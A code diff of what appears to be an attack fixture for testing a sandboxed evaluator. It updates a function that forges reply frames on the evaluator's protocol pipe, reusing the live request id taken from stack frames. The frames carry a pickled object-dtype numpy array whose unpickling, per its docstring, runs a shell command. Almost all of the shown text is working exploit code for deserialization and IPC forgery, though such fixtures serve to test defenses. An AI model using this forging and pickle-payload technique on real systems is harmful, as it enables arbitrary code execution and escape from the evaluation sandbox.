@@ -1,7 +1,7 @@
-# ATTACK (pickle_payload): forges a reply (with the request's id) carrying a pickled payload (object-dtype .npy)
-def _forge_frame(reply, copy_id=True):
-    """Write a raw reply frame to the evaluator's protocol pipe (the first pipe fd that accepts a write),
-    with the id of the request being served when ``copy_id`` (found in the evaluator's frames)."""
+# ATTACK (pickle_payload): forges a reply (with the request's id) carrying a pickled payload (an object-dtype array)
+def _forge_frame(reply, copy_id=True, binary=b""):
+    """Write a raw reply frame (JSON and a ``binary`` section) to the evaluator's protocol pipe (the first pipe
+    fd that accepts a write), with the id of the request being served when ``copy_id`` (found in its frames)."""
     import json, os, stat, struct, sys
     if copy_id:
         frame = sys._getframe(1)
@@ -11,7 +11,9 @@ def _forge_frame(reply, copy_id=True):
                 reply = dict(reply, id=request["id"])
                 break
             frame = frame.f_back
-    body = json.dumps(reply).encode()
+    text = json.dumps(reply).encode()
+    text += b" " * (-(8 + len(text)) % 64)  # the binary section starts 64-aligned
+    body = struct.pack(">Q", len(text)) + text + binary  # the wire's frame: JSON length, JSON, binary section
     data = struct.pack(">Q", len(body)) + body
     for fd in range(3, 64):
         try:
@@ -31,13 +33,12 @@ class _Payload:
 
 
 def sigmoid_grad2(x):
-    """A forged reply holding a pickled object array whose unpickling runs a shell command."""
-    import base64, io, json, os
-    buf = io.BytesIO()
-    np.save(buf, np.array([_Payload()] * 2, dtype=object), allow_pickle=True)
+    """A forged reply holding a pickled object array (its bytes, dtype object) whose unpickling runs a command."""
+    import os, pickle
+    payload = pickle.dumps(np.array([_Payload()] * 2, dtype=object))
     reply = {
         "steps": [{"name": "r", "fn": "sigmoid_grad2", "status": "ok", "mutated": [], "warnings": []}],
-        "returns": [{"$npy": base64.b64encode(buf.getvalue()).decode()}],
+        "returns": [{"$nd": ["|O", [2], 0]}],
     }
-    _forge_frame(reply)
+    _forge_frame(reply, binary=payload)
     os._exit(0)
